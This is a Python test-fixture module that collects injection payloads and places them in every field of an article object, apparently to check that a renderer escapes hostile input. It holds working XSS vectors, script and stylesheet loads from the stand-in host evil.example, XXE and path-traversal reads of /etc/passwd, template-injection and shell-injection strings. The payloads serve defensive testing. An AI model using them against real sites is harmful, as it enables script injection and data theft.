"""Text that wants to be more than text: patterns of our own, by the door that they knock at.

Each calls ``alert`` where a browser runs it. Whoever opens a page listens for that.
"""

from typing import Final

from langdu.article import (
    Article,
    Attachment,
    Cell,
    Check,
    Code,
    Figure,
    Heading,
    List,
    ListItem,
    Mark,
    Model,
    Paragraph,
    Quote,
    Sentence,
    Table,
    Translation,
)

ELEMENTS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT\n>alert(1)</SCRIPT\t>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    "<script>alert`1`</script>",
    "<script>/*<!--*/alert(1)//--></script>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script href=data:,alert(1)></script></svg>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x ONERROR='alert(1)'>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x:x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=http://evil.example/pixel.gif>",
    '<img srcset="x 1x" src onerror=alert(1)>',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>#x></use></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    '<math href="javascript:alert(1)">x</math>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "<object data=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onpointerenter=alert(1) style=position:fixed;inset:0>x</x>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>",
    "<style onload=alert(1)></style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    "<link rel=stylesheet href=http://evil.example/x.css onerror=alert(1)>",
    "<link rel=prefetch href=http://evil.example/x>",
    "<base href=http://evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table background=javascript:alert(1)><td>x</td></table>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>",
    "<object data=# onerror=alert(1)></object>",
    "<a href=javascript:alert(1) autofocus tabindex=1>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<div style=background:url(http://evil.example/x.png)>x</div>",
    "<div style=width:expression(alert(1))>x</div>",
    "<portal src=http://evil.example/></portal>",
)
ENDS: Final = (
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '</script><img src=x onerror="alert(1)">',
    '"}</script><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template></span></p></article><script>alert(1)</script>",
    "</style></head><body onload=alert(1)>",
    "--><script>alert(1)</script><!--",
    "--!><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "<!--<script>alert(1)</script>",
    "<!--><script>alert(1)</script>",
    "<?xml version=1.0?><script>alert(1)</script>",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<!ENTITY lol 'lol'>&lol;&lol;&lol;",
    "<plaintext><script>alert(1)</script>",
    "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
ATTRIBUTES: Final = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    '" style="background:url(http://evil.example/x)" x="',
    "` onerror=alert(1) `",
    '\\" onload=\\"alert(1)',
    "x\nonerror=alert(1)\n",
    "&quot; onload=&quot;alert(1)",
    "&#34;&#62;<script>alert(1)</script>",
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
)
SCRIPTS: Final = (
    '"; alert(1); //',
    "'; alert(1); //",
    "\\'; alert(1); //",
    "`${alert(1)}`",
    "${alert(1)}",
    "\u2028alert(1)\u2029",
    '"});alert(1);langduWords({"',
    "</script\u2028>",
    '{"__proto__": {"hidden": true}}',
    "__proto__",
    "constructor",
)
ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:http://evil.example/1",
    "filesystem:http://evil.example/temporary/x",
    "view-source:javascript:alert(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "../../../etc/passwd",
    "http://portal.example@evil.example/",
    "http://evil.example\\@portal.example/",
)
TEMPLATES: Final = (
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ config }}{{ self.__init__.__globals__ }}",
    "{# x #}{%- raw -%}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
    "$(touch x)`touch x`;touch x|touch x",
    "%s%n%(x)s{0}{x!r}",
)
CHARACTERS: Final = (
    "a\x00b",
    "a\x08\x1b[31m\x7f\x9f",
    "\ufffe\uffff\U0010ffff",
    "\u202egnp.exe\u202c",
    "\u2066x\u2069\u2067y\u2069\u200f\u200e",
    "\ufeff\u200b\u00ad\u2060x",
    "＜script＞alert(1)＜/script＞",
    "\u212aript\u017fcript",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\r\n\t\x0b\x0c",
    "Z\u0300\u0301\u0302\u0303" * 8,
    "&lt;script&gt;&#60;b&#62;&amp;amp;",
)

PATTERNS: Final = (
    *ELEMENTS,
    *ENDS,
    *ATTRIBUTES,
    *SCRIPTS,
    *ADDRESSES,
    *TEMPLATES,
    *CHARACTERS,
)


def everywhere(value: str) -> Article:
    """An article that has the text in every field that takes one."""
    marks = tuple(
        Mark(kind, 0, len(value), value)
        for kind in ("link", "ruby", "lang", "note", "strong", "em", "sub", "sup")
    )
    checks = (Check("b1.s1", value, value, value), Check(value, value, value, value))
    cell = Cell("b8.r1.c1", (Sentence("b8.r1.c1.s1", value, marks),), header=True)
    return Article(
        lang="en",
        title=value,
        url=value,
        site=value,
        published=value,
        updated=value,
        source=value,
        author=value,
        editor=value,
        column=(value, value),
        keywords=(value,),
        offered=(value,),
        blocks=(
            Paragraph("b1", (Sentence("b1.s1", value),)),
            Paragraph("b2", (Sentence("b2.s1", value, marks),)),
            Figure("b3", value, value, ()),
            Attachment("b4", value, (Sentence("b4.s1", value, marks),)),
            Heading("b5", 2, (Sentence("b5.s1", value),)),
            Quote("b6", (Sentence("b6.s1", value),)),
            List("b7", True, 1, (ListItem("b7.i1", (Sentence("b7.i1.s1", value),)),)),
            Table("b8", (Sentence("b8.c1", value),), ((cell,),)),
            Code("b9", value),
            Figure("b10", "https://portal.example/1.png", value, (Sentence("b10.s1", value),)),
        ),
        translation=Translation(value, value, (Model(value, value),), checks),
    )


def all_in_one() -> Article:
    """One article with every pattern: as text with marks, picture, attachment, item, cell, code."""
    base = everywhere("".join(ENDS) + ELEMENTS[0] + ATTRIBUTES[0])
    blocks = list(base.blocks)
    checks = []
    for number, value in enumerate(PATTERNS, len(blocks) + 1):
        name = f"b{number}"
        marks = tuple(Mark(kind, 0, len(value), value) for kind in ("link", "ruby", "note"))
        blocks += [
            Paragraph(name, (Sentence(f"{name}.s1", value, marks), Sentence(f"{name}.s2", value))),
            Figure(f"{name}f", value, value, (Sentence(f"{name}f.s1", value),)),
            Attachment(f"{name}a", value, (Sentence(f"{name}a.s1", value),)),
            Code(f"{name}c", value),
        ]
        checks.append(Check(f"{name}.s1", "number", value, value))
    made = Translation("zh", base.title or "", (Model(PATTERNS[0], PATTERNS[1]),), tuple(checks))
    return Article(
        lang="en",
        title=base.title,
        url=base.url,
        site=base.site,
        published=base.published,
        source=base.source,
        author=base.author,
        column=base.column,
        keywords=PATTERNS,
        blocks=tuple(blocks),
        translation=made,
    )


#: A few of each kind, for what is slower or must come back unchanged.
FEW: Final = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style></head><body onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "<!-- --!> <![CDATA[ ]]>",
    "&lt;script&gt;&#60;b&#62;&amp;",
    "a\x00b\x08c\x1b[31md\x7f\x9f\ufffe\U0010ffff",
    "\u202eevil\u202c \u2066\u2069",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</code></pre></table></span>",
    "＜script＞ \ufeff \u2028",
    "\r\n\t\x0b\x0c",
)


def everywhere_once(value: str) -> Article:
    """An article that has the text in every field that takes one."""
    marks = tuple(
        Mark(kind, 0, len(value), value)
        for kind in ("link", "ruby", "lang", "note", "strong", "em", "sub", "sup")
    )
    checks = (Check("b1.s1", value, value, value), Check(value, value, value, value))
    return Article(
        lang="en",
        title=value,
        url=value,
        site=value,
        published=value,
        updated=value,
        source=value,
        author=value,
        editor=value,
        column=(value, value),
        keywords=(value,),
        blocks=(
            Paragraph("b1", (Sentence("b1.s1", value),)),
            Paragraph("b2", (Sentence("b2.s1", value, marks),)),
            Figure("b3", value, value, ()),
            Attachment("b4", value, (Sentence("b4.s1", value, marks),)),
        ),
        translation=Translation(value, value, (Model(value, value),), checks),
    )
